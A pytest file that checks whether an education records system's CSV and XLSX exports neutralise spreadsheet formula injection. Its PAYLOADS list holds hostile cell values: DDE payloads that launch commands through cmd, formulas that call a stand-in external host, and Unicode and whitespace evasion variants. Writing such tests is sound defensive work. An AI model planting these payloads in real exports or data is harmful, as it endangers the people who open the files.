"""Formula injection: whatever route hands out a table, no cell of it can be run, however a name begins."""

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from blocks.models import Posting, Registration, School, StaffMember
from documents.queries.kinds import kinds
from documents.rules.formats import Format
from documents.services.documents import begin
from documents.services.renditions import freeze, make
from tests.cast import Cast
from tests.house.walk.routes import Route, together
from tests.house.walk.sweep import ask, browser
from tests.house.walk.test_matrix import _values
from tests.house.walk.world import fill, personal
from thidua.actors import system
from thidua.text import name_sort_key, plain_key
from thidua.trail import audit
from thidua.trail.export import as_csv
from thidua.wall.tenancy import tenant

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://xau.example","x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C x'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=IMPORTXML("http://xau.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=1+1;=2",
    '"=1+1',
    "'=1+1",
    "=A1\u0000",
    "%0A=1+1",
    '=WEBSERVICE("http://xau.example")',
    "={1,2}",
    "=-1",
    "==1",
    "=+1",
    "=@A1",
    "+=1",
    "=1\n=2",
]
SUM = "=SUM("


@pytest.fixture
def rows(cast: Cast) -> dict[str, Any]:
    """A district in which a person a payload works, and whose school and initiatives are named by them."""
    made = fill(cast)
    with tenant(cast.district.pk):
        for place, bare in enumerate(PAYLOADS, 2):
            text = bare.replace("\x00", "")
            person = StaffMember.objects.create(
                full_name=text, name_key=plain_key(text), sort_key=name_sort_key(text)[:400]
            )
            Posting.objects.create(staff=person, school=made["school"], job_title=text)
            Registration.objects.create(
                sheet=made["sheet"], staff=person, position=place, job_title=text, initiative=text, note=text
            )
            by = system(cast.district.pk, text)
            audit.record(by=by, verb=text[:60], target=person, old=text, new=text, reason=text)
        School.objects.filter(pk=made["school"].pk).update(name=PAYLOADS[0])
    return made


def unsafe_cells(content: bytes, kind: str) -> list[str]:
    """Cells of a table that a spreadsheet program would run."""
    if "csv" in kind:
        table = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        return [cell for row in table for cell in row if cell.lstrip(" \u00a0").startswith(STARTS)]
    if not zipfile.is_zipfile(io.BytesIO(content)):
        return []
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        if "xl/workbook.xml" not in parts.namelist():
            return []
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    run = [str(cell.value) for cell in cells if cell.data_type == "f" and not str(cell.value).startswith(SUM)]
    bare = [str(cell.value) for cell in cells if _looks_run(cell) and not cell.quotePrefix]
    return run + bare


def _looks_run(cell: Any) -> bool:
    return cell.data_type == "s" and str(cell.value).startswith(("=", "+", "-", "@")) and len(str(cell.value)) > 1


def _is_table(answer: Any) -> bool:
    kind = answer.headers.get("Content-Type", "")
    plain = answer.status_code == 200 and not kind.startswith(("text/html", "application/json"))
    return plain and (answer.content[:2] == b"PK" or "csv" in kind)


def _tables(cast: Cast, rows: dict[str, Any], who: str, answered: list[Route]) -> list[tuple[Route, str, bytes]]:
    """The answers of these routes, as they are and as CSV, that are a table, with their type."""
    client, found = browser(cast, who), []
    with tenant(cast.district.pk):
        rows = rows | personal(cast, rows, who)
    for route in answered:
        for query in ("", "?dang=csv"):
            answer = ask(client, "GET", route.url(_values(route, rows)) + query, route.is_api)
            if _is_table(answer):
                found.append((route, answer.headers.get("Content-Type", ""), answer.content))
    return found


@pytest.fixture
def answered(sweep: Any, who: str) -> list[Route]:
    """The routes whose answer to this person is a table; asked for before there is a cast."""
    return [answer.route for answer in sweep.of(who).values() if answer.method == "GET" and _is_table(answer)]


@pytest.mark.parametrize("who", together("officer", "principal"))
def test_no_route_hands_out_a_cell_that_can_be_run(
    answered: list[Route], cast: Cast, rows: dict[str, Any], who: str
) -> None:
    tables = _tables(cast, rows, who, answered)
    names = {route.name for route, _, _ in tables}
    assert {"export_staff", "export_registrations", "export_audit"} & names, names
    wrong = [f"{route}: {cell!r}" for route, kind, content in tables for cell in unsafe_cells(content, kind)]
    assert wrong == []


@pytest.mark.parametrize("kind", [code for code, kind in kinds().items() if Format.XLSX in kind.formats])
def test_no_paper_s_workbook_holds_a_cell_that_can_be_run(cast: Cast, rows: dict[str, Any], kind: str) -> None:
    units = {"block": cast.block, "school": rows["school"], "authority": cast.district}
    by = system(cast.district.pk)
    with tenant(cast.district.pk):
        spec = kinds()[kind]
        document = begin(kind=spec, subject={**rows, **units}[spec.subjects[0].code], year=cast.year, by=by)
        rendition = freeze(document=document, wanted="xlsx", by=by)
        content = make(rendition.context, rendition.format)[0]
    assert unsafe_cells(content, "xlsx") == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_of_a_csv_file_begins_with_nothing_that_is_run(payload: str) -> None:
    assert unsafe_cells(as_csv(["Đầu"], [[payload]]), "csv") == []


def test_the_check_sees_what_can_be_run() -> None:
    assert unsafe_cells("﻿a,=1+1\n".encode(), "csv") == ["=1+1"]
    assert unsafe_cells(b"a, =1+1\n", "csv") == [" =1+1"]
